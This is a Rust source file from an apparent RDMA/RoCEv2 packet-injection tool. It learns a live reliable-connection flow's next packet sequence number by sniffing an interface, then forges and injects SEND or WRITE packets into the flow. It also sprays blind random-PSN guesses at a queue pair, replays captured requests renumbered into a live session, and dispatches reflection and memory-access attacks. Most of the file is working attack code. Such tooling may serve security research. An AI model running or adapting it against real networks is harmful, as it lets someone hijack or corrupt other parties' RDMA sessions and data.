//! Running a [`Plan`]: the sockets first (so a missing `CAP_NET_RAW` is refused before
//! anything else happens), then learning, forging and sending, each bounded in count and time.

use std::fs::File;
use std::io::{self, BufWriter, Write};
use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use roce::pcap::{LinkType, PcapWriter, Resolution, Timestamp};
use roce::psn;

use crate::forge::{forge, renumber, BlindSpec, ForgeError, Forged, Injection};
use crate::learn::{Flow, FlowLearner, Verdict};
use crate::net::{Interface, NetError, Observer, Sender};
use crate::plan::{LearnOptions, Plan};
use crate::replay::{requests_from_pcap, CapturedRequest, ReplayError};
use crate::report::{flow_text, BlindSummary, ObserveSummary, ReplaySummary, Reporter, Summary};

/// Why a run failed.
///
/// The texts say what went wrong in the run's own terms; what to change on a command line is
/// for the program that built the [`Plan`] to add (each variant carries what it needs).
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum RunError {
    /// The network side.
    #[error("{0}")]
    Net(#[source] NetError),
    /// Nothing (or not enough) was learned before the timeout of [`LearnOptions`].
    #[error("{0}")]
    NothingLearned(Box<NotLearned>),
    /// A frame could not be forged.
    #[error("{0}")]
    Forge(#[source] ForgeError),
    /// The capture cannot be replayed.
    #[error("{path}: {source}")]
    Replay {
        /// The capture.
        path: PathBuf,
        /// Why.
        #[source]
        source: ReplayError,
    },
    /// A capture with no Ethernet header, to be sent verbatim: only a replay renumbered into
    /// a live flow (`Plan::Replay` with `live`), which takes the MACs from that flow, can
    /// send it.
    #[error("{0}: the capture starts at the IP header (no MACs to send with)")]
    RawNeedsObserve(PathBuf),
    /// None of the capture's requests go to the live flow's responder: a capture of that
    /// flow is needed.
    #[error("{path}: none of its {requests} requests goes to {dst}, the live flow's responder")]
    NoRequestsToFlow {
        /// The capture.
        path: PathBuf,
        /// Requests in it.
        requests: usize,
        /// The live flow's responder.
        dst: IpAddr,
    },
    /// A file could not be read or written.
    #[error("{what} {path}: {source}")]
    File {
        /// "reading" or "writing".
        what: &'static str,
        /// The file.
        path: PathBuf,
        /// Why.
        #[source]
        source: io::Error,
    },
    /// Stdout failed (a closed pipe).
    #[error("writing the report: {0}")]
    Output(#[source] io::Error),
    /// A capture to renumber holds no whole sealed message (a SEND Only or WRITE Only with
    /// Immediate whose payload is a version 2 header, ciphertext and tag).
    #[error("{path}: none of its {requests} requests is a sealed message in one packet")]
    NoSealedInCapture {
        /// The capture.
        path: PathBuf,
        /// Requests in it.
        requests: usize,
    },
}

/// What learning a live flow lacked when it gave up.
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum Shortfall {
    /// No RC SEND or RDMA WRITE request (to the responder asked for) was seen: the interface
    /// or the responder may be the wrong one.
    #[error("no RC SEND or RDMA WRITE request was seen")]
    NoRequest,
    /// Fewer requests than [`LearnOptions::min_packets`] were seen.
    #[error("only {seen} of the {wanted} requests asked for were seen")]
    TooFewRequests {
        /// Requests seen.
        seen: u64,
        /// [`LearnOptions::min_packets`].
        wanted: u64,
    },
    /// The flow was never quiet for [`LearnOptions::quiet`] after a complete message.
    #[error("the flow was never quiet for {} ms after a complete message", quiet.as_millis())]
    NeverQuiet {
        /// [`LearnOptions::quiet`].
        quiet: Duration,
    },
    /// The flow carried no sealed message (secure-rdma's version 2 header whose length
    /// matches): the peer may not protect its payloads, or no message was sent yet.
    #[error("no sealed message (a version 2 header with a matching length) was seen in the flow")]
    NoSealed,
    /// The flow's responder sent no sealed SEND with the sequence it expects next from the
    /// flow, so there is nothing to reflect.
    #[error("the responder sent no sealed SEND with sequence {seq}, the one it expects next")]
    NoReflection {
        /// The sequence looked for.
        seq: u64,
    },
}

/// What was seen when learning a live flow gave up.
#[derive(Debug, thiserror::Error)]
#[error(
    "{missing} on {iface} within {secs} s (saw {frames} frames, {roce} of them RoCEv2{to}): is \
     the session running and passing through {iface}?",
    to = match dst { Some(d) => format!(", looking for requests to {d}"), None => String::new() }
)]
pub struct NotLearned {
    /// What was missing.
    pub missing: Shortfall,
    /// The interface.
    pub iface: String,
    /// The timeout, in whole seconds.
    pub secs: u64,
    /// Frames seen.
    pub frames: u64,
    /// RoCEv2 packets seen.
    pub roce: u64,
    /// The responder asked for.
    pub dst: Option<IpAddr>,
}

impl From<NetError> for RunError {
    fn from(e: NetError) -> RunError {
        RunError::Net(e)
    }
}

impl From<ForgeError> for RunError {
    fn from(e: ForgeError) -> RunError {
        RunError::Forge(e)
    }
}

pub(crate) fn out(e: io::Error) -> RunError {
    RunError::Output(e)
}

/// Runs a plan, reporting on `rep`.
///
/// ```no_run
/// use std::time::Duration;
///
/// use rdma_inject::forge::Injection;
/// use rdma_inject::plan::{LearnOptions, Plan};
/// use rdma_inject::{report::Reporter, run::run};
///
/// let plan = Plan::Observe {
///     learn: LearnOptions {
///         iface: "veth-b".into(),
///         dst: None,
///         quiet: Duration::from_millis(300),
///         min_packets: 1,
///         timeout: Duration::from_secs(60),
///     },
///     injection: Some(Injection::Send(b"FORGED".to_vec())),
///     save: None,
/// };
/// let mut rep = Reporter::new(std::io::stdout(), false);
/// run(&plan, &mut rep)?;
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
pub fn run<W: Write>(plan: &Plan, rep: &mut Reporter<W>) -> Result<(), RunError> {
    match plan {
        Plan::Observe {
            learn,
            injection,
            save,
        } => observe(learn, injection.as_ref(), save.as_deref(), rep),
        Plan::Blind {
            iface,
            src_mac,
            dst_mac,
            src,
            dst,
            src_port,
            qpn,
            guesses,
            seed,
            payload,
            timeout,
        } => {
            let iface = Interface::by_name(iface)?;
            let sender = Sender::open(&iface)?;
            let spec = BlindSpec {
                src_mac: match src_mac {
                    Some(m) => *m,
                    None => iface.mac()?,
                },
                dst_mac: *dst_mac,
                src_ip: *src,
                dst_ip: *dst,
                src_port: *src_port,
                qpn: *qpn,
                payload: payload.clone(),
            };
            blind(&sender, &spec, *guesses, *seed, *timeout, rep)
        }
        Plan::Sealed { learn, attack, seq } => {
            crate::sealed_run::run_sealed(learn, attack, *seq, rep)
        }
        Plan::Replay { file, iface, live } => replay(file, iface, live.as_ref(), rep),
        Plan::Memory {
            learn,
            access,
            watch,
        } => crate::memory::run_memory(learn, access, *watch, rep),
    }
}

/// Both sockets on one interface: opened before anything else so that a missing capability
/// or interface is reported at once.
pub(crate) fn sockets(name: &str) -> Result<(Interface, Sender, Observer), RunError> {
    let iface = Interface::by_name(name)?;
    let sender = Sender::open(&iface)?;
    let observer = Observer::open(&iface)?;
    Ok((iface, sender, observer))
}

/// What learning saw.
#[derive(Debug, Default)]
pub(crate) struct Seen {
    frames: u64,
    roce: u64,
    saved: u64,
}

/// Watches the interface until the flow has `min_packets` requests, no open message, and
/// has been quiet for `quiet`; or fails at the timeout.
pub(crate) fn learn_live(
    obs: &mut Observer,
    opts: &LearnOptions,
    mut save: Option<&mut PcapWriter<BufWriter<File>>>,
    save_path: Option<&Path>,
    seen: &mut Seen,
) -> Result<Flow, RunError> {
    let mut learner = FlowLearner::new(opts.dst);
    tracing::info!(
        iface = opts.iface,
        dst = ?opts.dst,
        quiet_ms = opts.quiet.as_millis() as u64,
        min_packets = opts.min_packets,
        "observing {} for RC requests{}",
        opts.iface,
        opts.dst.map(|d| format!(" to {d}")).unwrap_or_default()
    );
    let learned = watch_until_quiet(
        obs,
        opts,
        &mut learner,
        &mut seen.frames,
        &mut seen.roce,
        |l| {
            l.flow()
                .is_some_and(|f| f.requests >= opts.min_packets && !f.message_open)
        },
        |l, p, frame| {
            let verdict = l.observe(p);
            tracing::trace!(?verdict, direction = ?frame.direction, opcode = p.opcode().name(), psn = p.bth.psn, "packet");
            match verdict {
                Verdict::Request { .. } => {
                    if let (Some(w), Some(path)) = (save.as_deref_mut(), save_path) {
                        w.write_packet(Timestamp::now(), frame.frame, frame.orig_len)
                            .map_err(|source| RunError::File {
                                what: "writing",
                                path: path.to_owned(),
                                source,
                            })?;
                        seen.saved += 1;
                    }
                }
                Verdict::Unfollowed => tracing::warn!(
                    opcode = p.opcode().name(),
                    "a request that reserves an unknown number of PSNs: the learned PSN may be behind"
                ),
                Verdict::BadIcrc => tracing::debug!("a packet with a bad ICRC, ignored"),
                Verdict::Response | Verdict::Other => {}
            }
            Ok(verdict)
        },
    );
    match (learned?, learner.flow()) {
        (true, Some(flow)) => {
            tracing::info!("learned {}", flow_text(flow));
            Ok(flow.clone())
        }
        _ => Err(not_learned(learner.flow(), opts, seen)),
    }
}

/// The observation loop of every attack that learns a live flow: feeds each RoCE frame seen
/// on the interface to `observe` (which updates `learner` and says what the packet was) and
/// returns `Ok(true)` once `ready(learner)` holds and the flow has been quiet for
/// `opts.quiet` since its last request (the moment to inject at the next PSN), `Ok(false)` at
/// `opts.timeout`. `frames` and `roce` count what was seen, for the error that says why
/// nothing was learned.
pub(crate) fn watch_until_quiet<L>(
    obs: &mut Observer,
    opts: &LearnOptions,
    learner: &mut L,
    frames: &mut u64,
    roce: &mut u64,
    ready: impl Fn(&L) -> bool,
    mut observe: impl FnMut(
        &mut L,
        &roce::Packet<'_>,
        &crate::net::Seen<'_>,
    ) -> Result<Verdict, RunError>,
) -> Result<bool, RunError> {
    let deadline = Instant::now() + opts.timeout;
    let mut last_request: Option<Instant> = None;
    loop {
        let now = Instant::now();
        let ready = ready(learner);
        if let (true, Some(at)) = (ready, last_request) {
            if now.duration_since(at) >= opts.quiet {
                return Ok(true);
            }
        }
        if now >= deadline {
            return Ok(false);
        }
        let wait = match (ready, last_request) {
            (true, Some(at)) => (at + opts.quiet).saturating_duration_since(now),
            _ => deadline - now,
        }
        .min(deadline - now);
        let Some(frame) = obs.next(wait)? else {
            continue;
        };
        *frames += 1;
        let Ok(p) = roce::decode_ethernet(frame.frame) else {
            continue;
        };
        *roce += 1;
        if let Verdict::Request { .. } = observe(learner, &p, &frame)? {
            last_request = Some(Instant::now());
        }
    }
}

fn not_learned(flow: Option<&Flow>, opts: &LearnOptions, seen: &Seen) -> RunError {
    let missing = match flow {
        None => Shortfall::NoRequest,
        Some(f) if f.requests < opts.min_packets => Shortfall::TooFewRequests {
            seen: f.requests,
            wanted: opts.min_packets,
        },
        Some(_) => Shortfall::NeverQuiet { quiet: opts.quiet },
    };
    RunError::NothingLearned(Box::new(NotLearned {
        missing,
        iface: opts.iface.clone(),
        secs: opts.timeout.as_secs(),
        frames: seen.frames,
        roce: seen.roce,
        dst: opts.dst,
    }))
}

fn open_save(path: &Path) -> Result<PcapWriter<BufWriter<File>>, RunError> {
    let err = |source| RunError::File {
        what: "writing",
        path: path.to_owned(),
        source,
    };
    let f = File::create(path).map_err(err)?;
    PcapWriter::new(
        BufWriter::new(f),
        LinkType::Ethernet,
        roce::pcap::DEFAULT_SNAPLEN,
        Resolution::Nanos,
    )
    .map_err(err)
}

pub(crate) fn elapsed_ms(start: Instant) -> u64 {
    u64::try_from(start.elapsed().as_millis()).unwrap_or(u64::MAX)
}

fn observe<W: Write>(
    opts: &LearnOptions,
    injection: Option<&Injection>,
    save_path: Option<&Path>,
    rep: &mut Reporter<W>,
) -> Result<(), RunError> {
    let start = Instant::now();
    let (iface, sender, mut obs) = sockets(&opts.iface)?;
    let mut save = save_path.map(open_save).transpose()?;
    let mut seen = Seen::default();
    let learned = learn_live(&mut obs, opts, save.as_mut(), save_path, &mut seen);
    if let (Some(w), Some(path)) = (save, save_path) {
        w.into_inner().map_err(|source| RunError::File {
            what: "writing",
            path: path.to_owned(),
            source,
        })?;
    }
    let flow = learned?;
    rep.learned(&flow).map_err(out)?;
    let mut injected = 0;
    if let Some(inj) = injection {
        let forged = forge(&flow, inj)?;
        sender.send(&forged.frame)?;
        injected = 1;
        rep.injected(&forged).map_err(out)?;
    }
    rep.summary(&Summary::Observe(ObserveSummary {
        iface: iface.name().to_owned(),
        dst: opts.dst,
        frames_seen: seen.frames,
        roce_packets: seen.roce,
        flow: Some(flow),
        injected,
        saved: save_path.map(|_| seen.saved),
        elapsed_ms: elapsed_ms(start),
    }))
    .map_err(out)
}

fn blind<W: Write>(
    sender: &Sender,
    spec: &BlindSpec,
    guesses: u32,
    seed: Option<u64>,
    timeout: Duration,
    rep: &mut Reporter<W>,
) -> Result<(), RunError> {
    let builder = spec.builder()?;
    let seed = seed.unwrap_or_else(|| fastrand::u64(..));
    let mut rng = fastrand::Rng::with_seed(seed);
    tracing::info!(
        iface = sender.interface().name(),
        dst = %spec.dst_ip,
        qpn = spec.qpn,
        guesses,
        seed,
        "sending {guesses} random-PSN guesses"
    );
    let start = Instant::now();
    let (mut sent, mut timed_out) = (0u64, false);
    for _ in 0..guesses {
        if start.elapsed() >= timeout {
            timed_out = true;
            break;
        }
        let guess = spec.guess(&builder, rng.u32(0..psn::PSN_SPACE))?;
        sender.send(&guess.frame)?;
        sent += 1;
        rep.injected(&guess).map_err(out)?;
    }
    let secs = start.elapsed().as_secs_f64();
    rep.summary(&Summary::Blind(BlindSummary {
        iface: sender.interface().name().to_owned(),
        dst: spec.dst_ip,
        qpn: spec.qpn,
        guesses,
        sent,
        seed,
        elapsed_ms: elapsed_ms(start),
        packets_per_sec: if secs > 0.0 { sent as f64 / secs } else { 0.0 },
        timed_out,
    }))
    .map_err(out)
}

fn replay<W: Write>(
    file: &Path,
    iface: &str,
    live: Option<&LearnOptions>,
    rep: &mut Reporter<W>,
) -> Result<(), RunError> {
    let start = Instant::now();
    let (iface, sender, mut obs) = sockets(iface)?;
    let requests = read_requests(file)?;
    let mut injected = 0;
    let flow = match live {
        None => {
            // Verbatim: not observing, so close the observer's queue right away.
            drop(obs);
            if requests.iter().any(|r| r.synthetic_ethernet) {
                return Err(RunError::RawNeedsObserve(file.to_owned()));
            }
            for r in &requests {
                let forged = as_captured(r, file)?;
                sender.send(&forged.frame)?;
                injected += 1;
                rep.injected(&forged).map_err(out)?;
            }
            None
        }
        Some(opts) => {
            let mut seen = Seen::default();
            let flow = learn_live(&mut obs, opts, None, None, &mut seen)?;
            rep.learned(&flow).map_err(out)?;
            let mut psn = flow.next_psn;
            for r in &requests {
                let p = r.packet().map_err(|e| replay_decode(file, e))?;
                if p.dst().map(|d| d.ip()) != Some(flow.dst_ip) {
                    continue;
                }
                let forged = renumber(&p, &flow, psn)?;
                sender.send(&forged.frame)?;
                injected += 1;
                psn = psn::next(psn);
                rep.injected(&forged).map_err(out)?;
            }
            if injected == 0 {
                return Err(RunError::NoRequestsToFlow {
                    path: file.to_owned(),
                    requests: requests.len(),
                    dst: flow.dst_ip,
                });
            }
            Some(flow)
        }
    };
    rep.summary(&Summary::Replay(ReplaySummary {
        iface: iface.name().to_owned(),
        file: file.to_owned(),
        requests_in_file: requests.len(),
        injected,
        renumbered: flow.is_some(),
        flow,
        elapsed_ms: elapsed_ms(start),
    }))
    .map_err(out)
}

/// A captured request as it will be sent, for the report.
fn as_captured(r: &crate::replay::CapturedRequest, file: &Path) -> Result<Forged, RunError> {
    let p = r.packet().map_err(|e| replay_decode(file, e))?;
    Ok(Forged {
        frame: r.frame.clone(),
        opcode: p.opcode(),
        dst_qpn: p.bth.dest_qp,
        psn: p.bth.psn,
        payload_len: p.payload.len(),
    })
}

/// The request packets of the capture `file`.
pub(crate) fn read_requests(file: &Path) -> Result<Vec<CapturedRequest>, RunError> {
    let bytes = std::fs::read(file).map_err(|source| RunError::File {
        what: "reading",
        path: file.to_owned(),
        source,
    })?;
    requests_from_pcap(&bytes).map_err(|source| RunError::Replay {
        path: file.to_owned(),
        source,
    })
}

/// A packet of the capture `path` (or one rebuilt from it) that does not decode. Unreachable in
/// practice: every kept request decoded when the file was read.
pub(crate) fn replay_decode(path: &Path, e: roce::DecodeError) -> RunError {
    RunError::File {
        what: "decoding a request of",
        path: path.to_owned(),
        source: io::Error::new(io::ErrorKind::InvalidData, e),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn learn_options() -> LearnOptions {
        LearnOptions {
            iface: "veth-b".into(),
            dst: Some([10, 77, 0, 1].into()),
            quiet: Duration::from_millis(300),
            min_packets: 2,
            timeout: Duration::from_secs(5),
        }
    }

    fn seen() -> Seen {
        Seen {
            frames: 12,
            roce: 0,
            saved: 0,
        }
    }

    #[test]
    fn giving_up_says_what_was_missing_and_what_was_seen() {
        let e = not_learned(None, &learn_options(), &seen());
        let RunError::NothingLearned(n) = &e else {
            panic!("{e:?}")
        };
        assert_eq!(n.missing, Shortfall::NoRequest);
        let msg = e.to_string();
        assert!(
            msg.starts_with(
                "no RC SEND or RDMA WRITE request was seen on veth-b within 5 s (saw 12 frames, \
                 0 of them RoCEv2, looking for requests to 10.77.0.1)"
            ),
            "{msg}"
        );
        // The library names no flag: the binary adds how to change its command line.
        assert!(!msg.contains("--"), "{msg}");
    }

    #[test]
    fn too_few_requests_and_no_quiet_are_told_apart() {
        let learned = crate::learn::flow_of_one_send();
        let flow = Some(&learned);
        let e = not_learned(flow, &learn_options(), &seen());
        let RunError::NothingLearned(n) = &e else {
            panic!("{e:?}")
        };
        assert_eq!(n.missing, Shortfall::TooFewRequests { seen: 1, wanted: 2 });
        assert!(
            e.to_string()
                .starts_with("only 1 of the 2 requests asked for were seen on veth-b"),
            "{e}"
        );
        let opts = LearnOptions {
            min_packets: 1,
            ..learn_options()
        };
        let e = not_learned(flow, &opts, &seen());
        assert!(
            e.to_string().starts_with(
                "the flow was never quiet for 300 ms after a complete message on veth-b"
            ),
            "{e}"
        );
    }

    #[test]
    fn unknown_interfaces_fail_before_any_socket() {
        let e = sockets("rdma-inject-x9").unwrap_err();
        assert!(matches!(e, RunError::Net(NetError::NoSuchInterface(_))));
        assert!(e.to_string().contains("no network interface named"), "{e}");
    }
}
